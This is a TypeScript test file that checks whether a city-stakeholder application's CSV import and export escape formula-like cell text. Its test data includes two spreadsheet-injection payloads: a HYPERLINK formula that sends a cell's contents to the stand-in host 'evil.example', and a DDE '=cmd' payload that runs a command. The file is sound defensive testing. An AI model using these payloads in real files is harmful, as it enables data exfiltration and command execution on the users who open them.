import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportSectionCsv } from '../src/dataset-sections.ts';
import { ENGINES, startTestApp, type Client, type TestApp } from './harness.ts';

/** What a spreadsheet shows of a neutralised cell: the text with a leading quote when it starts like a formula. */
const shown = (v: string) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);

/** Names and descriptions a spreadsheet would misread or a naive writer would break. */
const AWKWARD = [
  { name: '=HYPERLINK("http://evil.example/?x="&A1,"Click me")', description: 'Formula, with a comma' },
  { name: '+32 15 123 456 vzw', description: 'Starts with a plus' },
  { name: '-Minus Verein', description: '-1 is not a number here' },
  { name: '@home Café', description: 'Première ligne\nDeuxième; ligne — ñ, ü, ø, ł' },
  { name: 'Città "Bologna", Emilia', description: '"Quoted" all the way' },
];

const csvField = (v: string) => `"${v.replace(/"/g, '""')}"`;

describe.each(ENGINES)('CSV written by the server reads back with an independent parser on %s', (engine) => {
  let t: TestApp;
  let editor: Client;

  beforeAll(async () => {
    t = await startTestApp(engine);
    editor = await t.signIn('editor', 'city-mechelen');
  });
  afterAll(async () => t?.close());

  it('exports stakeholders imported from CSV with the values they had, formula-like text neutralised', async () => {
    const csv = [
      'name,area,influence,description',
      ...AWKWARD.map((a, i) => `${csvField(a.name)},education,${i + 1},${csvField(a.description)}`),
    ].join('\r\n');
    const imported = await editor.request({
      method: 'POST',
      url: '/api/v1/cities/city-mechelen/stakeholders/import',
      headers: { 'content-type': 'text/csv' },
      payload: csv,
    });
    expect(imported.statusCode, imported.body).toBe(200);
    const ids = imported.json().ids as string[];
    const stored = (await editor.request({ url: `/api/v1/stakeholders/${ids[0]}` })).json();
    expect(stored.name).toBe(AWKWARD[0].name);

    const text = await exportSectionCsv(t.db, 'stakeholders', { includeDrafts: true });
    const rows = parse<Record<string, string>>(text, { columns: true });
    const byId = new Map(rows.map((r) => [r.id, r]));
    for (const [i, a] of AWKWARD.entries()) {
      const row = byId.get(ids[i])!;
      expect(row, ids[i]).toBeDefined();
      expect(row.name).toBe(shown(a.name));
      expect(row.description).toBe(shown(a.description));
      expect(row.influence).toBe(String(i + 1));
      expect(row.cityId).toBe('city-mechelen');
    }
    expect(byId.get(ids[2])!.description).toBe("'-1 is not a number here");
  });

  it('writes the charter report with city names neutralised and counts as numbers', async () => {
    const city = (
      await t.db.query<{ city_id: string }>('SELECT city_id FROM charter_signatories ORDER BY city_id LIMIT 1')
    ).rows[0].city_id;
    const name = '=cmd|" /C calc"!A0, Città';
    await t.db.query('UPDATE cities SET name = $2 WHERE id = $1', [city, name]);
    const res = await t.anonymous.request({ url: '/api/v1/charter/report?format=csv' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    const rows = parse<Record<string, string>>(res.body, { columns: true });
    const row = rows.find((r) => r.scope === 'city' && r.id === city)!;
    expect(row).toMatchObject({ name: `'${name}`, signatory: 'yes' });
    expect(Number.isInteger(Number(row.planned))).toBe(true);
    const json = (await t.anonymous.request({ url: '/api/v1/charter/report' })).json();
    expect(rows.filter((r) => r.scope === 'commitment').map((r) => r.name)).toEqual(
      json.byCommitment.map((c: { text: string }) => shown(c.text)),
    );
  });
});
